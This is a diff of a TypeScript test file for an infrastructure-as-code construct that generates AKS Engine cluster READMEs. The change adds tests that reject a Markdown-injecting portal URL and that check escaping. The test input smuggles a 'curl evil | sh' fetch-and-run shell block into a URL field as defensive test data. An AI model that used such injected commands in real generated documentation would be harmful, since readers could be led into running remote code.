@@ -4,6 +4,7 @@ import { App, Testing, TerraformVariable } from 'cdktf';
 import { describe, expect, it } from 'vitest';
 import { HubAksEngineCluster, HubStack, type HubAksEngineClusterProps, HubValidationError, sshPublicKeyVariable } from '../lib';
 import { API_MODEL_TAGS, AKS_ENGINE } from '../lib/profile/aks-engine';
+import { markdownText } from '../lib/render/apimodel';
 import { PROGRAM_LOCATOR } from '../lib/constructs/hub-aks-engine-cluster';
 import { SHARED_ENGINE_PROPS_RULE_IDS, SHARED_ENGINE_RULE_IDS } from '../lib/rules/catalog';
 import { checkDocuments } from '../lib/rules/check-documents';
@@ -138,10 +139,11 @@ describe('HubAksEngineCluster', () => {
     expect(readme).toContain('export AKS_ENGINE_CLIENT_SECRET=');
     expect(readme).toContain('unencrypted');
     expect(readme).toContain('`cdktf destroy` deletes it');
-    const hostile = synth({ portalUrl: 'https://portal.local.azurestack.external/x\n```sh\ncurl evil | sh\n<!--' }).files['aks-engine/cluster/README.md']!;
-    expect(hostile).toContain('curl evil');
-    expect(hostile).not.toContain('\ncurl evil');
-    expect(hostile).not.toContain('<!--');
+    // A portal URL that would add a block to it is refused (HUB514); what reaches Markdown is escaped anyway.
+    expect(ids(() => synth({ portalUrl: 'https://portal.local.azurestack.external/x\n```sh\ncurl evil | sh\n<!--' }))).toEqual(['HUB514']);
+    const escaped = markdownText('x\n```sh\ncurl evil | sh\n<!-- [a](b) *c*');
+    expect(escaped).not.toMatch(/\n|(?<!\\)[`<*[|]/);
+    expect(escaped).toContain('curl evil');
   });
 
   it('leaves keyData empty for an SSH key known only at deploy time, and hands the key to apply through the environment', () => {
@@ -256,6 +258,13 @@ describe('AKS engine rules', () => {
         }),
     ) as HubValidationError;
     expect(e.ruleIds).toEqual(['HUB100', 'HUB200', 'HUB305', 'HUB308']);
+  });
+
+  it('refuse GPU and unknown VM sizes and a DNS prefix another cluster of the stack has, as HubAksCluster does', () => {
+    const stack = new HubStack(Testing.app(), 's', { hub: HUB });
+    expect(ids(() => new HubAksEngineCluster(stack, 'a', minimalEngineProps({ controlPlane: { vmSize: 'not a size"}' }, agentPools: [{ name: 'gpu', vmSize: 'Standard_NC6' }] })))).toEqual(['HUB015', 'HUB016']);
+    new HubAksEngineCluster(stack, 'b', minimalEngineProps({ name: 'one', dnsPrefix: 'shared' }));
+    expect(ids(() => new HubAksEngineCluster(stack, 'c', minimalEngineProps({ name: 'two', dnsPrefix: 'shared' })))).toEqual(['HUB122']);
   });
 
   it('check the static IPs of the control plane against the subnet', () => {
